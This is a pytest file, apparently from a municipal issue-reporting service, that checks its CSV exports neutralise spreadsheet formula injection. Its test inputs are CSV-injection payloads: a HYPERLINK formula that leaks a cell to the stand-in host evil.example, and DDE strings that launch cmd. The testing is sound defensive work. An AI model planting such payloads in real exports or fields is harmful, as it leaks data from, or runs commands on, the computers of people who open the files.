"""CSV exports neutralise spreadsheet formulas (CSV injection), and only CSV does.

Citizen text (description, address), names staff give (categories, accounts) and zone keys
end up in the open-data CSV, the staff queue's CSV and the SLA summary. A cell that starts
with = + - @ (or a tab or carriage return) would run as a formula in Excel or LibreOffice; it
must arrive with a leading apostrophe, the text otherwise as written. JSON and GeoJSON carry
the text unchanged: they are not opened by spreadsheets.
"""

from __future__ import annotations

import csv
import io

from maengelmelder.spreadsheet import FORMULA_STARTS
from tests.tickets.helpers import file_ticket

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


def _rows(resp) -> list[dict[str, str]]:
    assert resp.status_code == 200, resp.get_data(as_text=True)
    assert resp.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(resp.get_data(as_text=True), newline="")))


def _formula_cells(rows: list[dict[str, str]]) -> list[str]:
    return [v for row in rows for v in row.values() if v and v.startswith(FORMULA_STARTS)]


def test_every_csv_export_neutralises_formulas(app, client, staff):
    admin = {"Authorization": "Bearer " + staff.token("admin")}
    resp = client.patch(
        "/api/v1/admin/categories/schlagloch",
        json={"name_de": HYPERLINK, "name_en": DDE},
        headers=admin,
    )
    assert resp.status_code == 200, resp.json
    crew = {
        "email": "formel@stadt.example",
        "name": MINUS,
        "role": "crew",
        "password": "lang genug, wirklich",
        "departments": ["tiefbau"],
    }
    resp = client.post("/api/v1/admin/users", json=crew, headers=admin)
    assert resp.status_code == 201, resp.json
    assignee = resp.json["id"]

    first = file_ticket(client, description=HYPERLINK, address=SUM)["report"]["public_id"]
    second = file_ticket(client, description="harmlos", address=TAB)["report"]["public_id"]
    for public_id, text in ((first, None), (second, CR)):
        etag = client.get(f"/api/v1/tickets/{public_id}", headers=admin).headers["ETag"]
        resp = client.post(
            f"/api/v1/tickets/{public_id}/publication",
            json={"action": "publish", "public_description": text},
            headers={**admin, "If-Match": etag},
        )
        assert resp.status_code == 200, resp.json
    etag = client.get(f"/api/v1/tickets/{first}", headers=admin).headers["ETag"]
    resp = client.post(
        f"/api/v1/tickets/{first}/assign",
        json={"assignee_id": assignee},
        headers={**admin, "If-Match": etag},
    )
    assert resp.status_code == 200, resp.json

    # Open data: description, address, category names arrive as text.
    rows = {r["public_id"]: r for r in _rows(client.get("/api/v1/export/reports.csv"))}
    assert set(rows) == {first, second}  # a carriage return in a text started no new row
    assert _formula_cells(list(rows.values())) == []
    assert rows[first]["description"] == "'" + HYPERLINK
    assert rows[first]["address"] == "'" + SUM
    assert rows[first]["category_name_de"] == "'" + HYPERLINK
    assert rows[first]["category_name_en"] == "'" + DDE
    assert rows[second]["description"] == "'" + CR
    assert rows[second]["address"] == "'" + TAB.strip()  # intake trims the address
    assert rows[second]["lat"] == "50.1005"  # numbers and ordinary text untouched
    assert rows[second]["created_at"] == "2026-03-10T09:00:00Z"

    # The staff queue's download: the assignee's name.
    queue = {
        r["public_id"]: r for r in _rows(client.get("/api/v1/tickets?format=csv", headers=admin))
    }
    assert _formula_cells(list(queue.values())) == []
    assert queue[first]["assignee"] == "'" + MINUS

    # The SLA summary: only codes and figures, and none of them starts like a formula.
    summary = _rows(client.get("/api/v1/sla/summary?format=csv", headers=admin))
    assert summary and _formula_cells(summary) == []

    # JSON is no spreadsheet: the text stays exactly as written there.
    feature = next(
        f
        for f in client.get("/api/v1/export/reports.geojson").get_json()["features"]
        if f["id"] == first
    )
    assert feature["properties"]["description"] == HYPERLINK
    assert client.get(f"/api/v1/reports/{first}").json["address"] == SUM
